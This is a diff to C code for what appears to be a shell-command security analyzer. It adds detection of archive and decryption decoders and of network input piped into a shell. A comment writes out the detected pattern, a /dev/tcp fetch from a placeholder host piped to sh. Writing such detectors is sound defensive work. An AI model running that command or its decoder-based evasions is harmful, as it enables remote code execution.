@@ -312,6 +312,12 @@ static int is_decoder(const sh_stmt_t *st, unsigned i)
             return has_flag(st, i, 'd', "--decode") || has_flag(st, i, 'D', NULL);
         return 0;
     case SH_C_TRANSFORM:
+        if (an_find(w, n, "tar") != (size_t)-1)
+            return has_flag(st, i, 'O', "--to-stdout");
+        if (n == 5 && memcmp(w, "unzip", 5) == 0)
+            return has_flag(st, i, 'p', NULL);
+        if (an_find(w, n, "gpg") != (size_t)-1 || (n == 3 && memcmp(w, "age", 3) == 0))
+            return has_flag(st, i, 'd', "--decrypt");
         if (an_find(w, n, "gzip") != (size_t)-1 || an_find(w, n, "bzip2") != (size_t)-1 ||
             (n >= 2 && w[n - 2] == 'x' && w[n - 1] == 'z') || (n >= 4 && !memcmp(w + n - 4, "zstd", 4)))
             return has_flag(st, i, 'd', "--decompress");
@@ -639,6 +645,8 @@ static int rule_token(sh_ctx_t *c, const sh_stmt_t *st, unsigned i, unsigned net
     int rc = 0;
     if (t->kind == SH_OP_REDIR_OUT && i + 1 < st->n && T(st, i + 1)->kind == SH_WORD)
         return classify_write(c, st, i, i + 1);
+    if (t->kind == SH_OP_REDIR_IN && i + 1 < st->n && (T(st, i + 1)->paths & SH_P_DEVNET))
+        return rule_net_into_runner(c, st, i + 1);   /* cat < /dev/tcp/HOST/PORT | sh */
     if (t->kind != SH_WORD)
         return 0;
     switch (t->cls) {
